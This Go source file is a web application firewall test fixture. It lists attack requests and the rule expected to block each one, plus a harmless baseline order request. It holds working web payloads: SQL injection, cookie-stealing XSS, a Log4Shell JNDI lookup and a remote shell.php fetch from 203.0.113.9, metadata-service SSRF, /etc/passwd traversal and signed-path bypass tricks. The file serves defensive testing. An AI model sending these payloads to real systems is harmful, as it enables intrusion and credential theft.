package waf

import (
	"net/url"
	"strings"
)

// attack is a request that must not get through, and the rule that stops it.
type attack struct {
	Request

	stopped string
}

// attacks are on a service, which shares the web ACL, and on the bot where nothing is
// signed: its query, its path, its headers.
func attacks() []attack {
	const (
		sql, script = "x' OR '1'='1' --", "<script>alert(document.cookie)</script>"
		jndi        = "${jndi:ldap://203.0.113.9/a}"
	)
	var all []attack
	add := func(stopped, name string, change func(*Request)) {
		r := order(name)
		change(&r)
		all = append(all, attack{r, stopped})
	}
	add("content/sql-injection", "SQL in the query", func(r *Request) { r.Query = "q=" + url.QueryEscape(sql) })
	add("content/sql-injection", "SQL in the path", func(r *Request) { r.Path = "/live/orders/" + url.PathEscape(sql) })
	add("content/sql-injection", "SQL in a cookie", func(r *Request) { r.Header["cookie"] = "sid=" + url.QueryEscape("x' OR 'a'='a' --") })
	add("content/sql-injection", "SQL in a header", func(r *Request) { r.Header["referer"] = "' UNION SELECT password FROM users --" })
	add("content/sql-injection", "SQL in a JSON body", func(r *Request) { r.Body = `{"id": "1 OR 1=1"}` })
	add("content/sql-injection", "SQL in a form", func(r *Request) { r.Body = "id=" + url.QueryEscape(sql) })
	add("common/CrossSiteScripting_QUERYARGUMENTS", "a script in the query", func(r *Request) { r.Query = "q=" + url.QueryEscape(script) })
	add("common/CrossSiteScripting_URIPATH", "a script in the path", func(r *Request) { r.Path = "/live/orders/" + url.PathEscape(script) })
	add("common/CrossSiteScripting_COOKIE", "a script in a cookie", func(r *Request) { r.Header["cookie"] = "sid=" + url.QueryEscape("<script>alert(1)</script>") })
	add("content/cross-site-scripting", "a script in a header", func(r *Request) { r.Header["referer"] = script })
	add("content/bodies", "a script in a JSON body", func(r *Request) { r.Body = `{"note": "` + script + `"}` })
	add("content/bodies", "metadata in a body", func(r *Request) { r.Body = `{"url": "http://169.254.169.254/latest/meta-data/iam"}` })
	add("content/bodies", "a file in a body", func(r *Request) { r.Body = `{"file": "../../../etc/passwd"}` })
	add("content/bodies", "a foreign file in a body", func(r *Request) { r.Body = `{"page": "http://203.0.113.9/shell.php"}` })
	add("content/bodies", "Log4Shell in a body", func(r *Request) { r.Body = `{"name": "` + jndi + `"}` })
	add("content/bodies", "Java in a body", func(r *Request) { r.Body = `{"x": "(java.lang.Runtime).getRuntime().exec('id')"}` })
	add("content/bodies", "React in a body", func(r *Request) { r.Body = `{"then": "$1:__proto__:then"}` })
	add("content/bodies", "a body of 9 KB", func(r *Request) { r.Body = `{"pad": "` + strings.Repeat("x", 9*kilobyte) + `"}` })
	add("content/bodies", "a script behind 16 KB", func(r *Request) { r.Body = strings.Repeat(" ", 16*kilobyte) + script })
	add("content/sql-injection", "9 KB of headers", func(r *Request) { r.Header["x-pad"] = strings.Repeat("x", 9*kilobyte) })
	add("bad-inputs/Log4JRCE_HEADER", "Log4Shell in a header", func(r *Request) { r.Header["user-agent"] = jndi })
	add("bad-inputs/Log4JRCE_QUERYSTRING", "Log4Shell in the query", func(r *Request) { r.Query = "q=" + jndi })
	add("bad-inputs/ExploitablePaths_URIPATH", "somebody looks for .git", func(r *Request) { r.Path = "/live/.git/config" })
	add("common/NoUserAgent_HEADER", "nobody says who asks", func(r *Request) { delete(r.Header, "user-agent") })
	add("common/GenericLFI_URIPATH", "a way out of the path", func(r *Request) { r.Path = "/live/../../etc/passwd" })
	add("ip-reputation/AWSManagedIPReputationList", "a known attacker", func(r *Request) { r.Listed = true })
	add("rate", "the 2,001st request in five minutes", func(r *Request) { r.Recent = 2001 })
	return append(all, atTheBot()...)
}

// atTheBot are attacks that come near to what is excepted.
func atTheBot() []attack {
	var all []attack
	add := func(stopped, name string, change func(*Request)) {
		r := slack("/slack/commands", name, "text="+url.QueryEscape("x' OR '1'='1' --"))
		change(&r)
		all = append(all, attack{r, stopped})
	}
	add("content/sql-injection", "the bot: SQL in the query", func(r *Request) { r.Query = "q=" + url.QueryEscape("x' OR '1'='1' --") })
	add("content/sql-injection", "the bot: by another method", func(r *Request) { r.Method = "PUT" })
	add("content/sql-injection", "the bot: an unsigned path", func(r *Request) { r.Path = "/live/healthz" })
	add("content/sql-injection", "the bot: behind a signed path", func(r *Request) { r.Path += "/x" })
	add("content/sql-injection", "the bot: a signed path in another", func(r *Request) { r.Path = "/live/x" + strings.TrimPrefix(r.Path, "/live") })
	add("content/sql-injection", "the bot: a signed path, written differently", func(r *Request) { r.Path = "/live/slack/%63ommands" })
	add("content/sql-injection", "a service: a signed path", func(r *Request) { r.Header["host"] = serviceHost })
	add("content/bodies", "a service: a button's payload of 9 KB", func(r *Request) {
		r.Header["host"], r.Body = serviceHost, "payload="+strings.Repeat("x", 9*kilobyte)
	})
	return all
}

// order is a harmless request to a service.
func order(name string) Request {
	return Request{Name: name, Method: "POST", Path: "/live/orders", Query: "currency=EUR", Body: `{"item": "42", "note": "for O'Brien, before 5 < 6 pm"}`, Country: "PT",
		Header: map[string]string{"host": serviceHost, "user-agent": "Mozilla/5.0 (X11; Linux x86_64)", "content-type": "application/json",
			"cookie": "sid=0123456789abcdef; theme=dark", "x-api-key": strings.Repeat("k", 40)}}
}
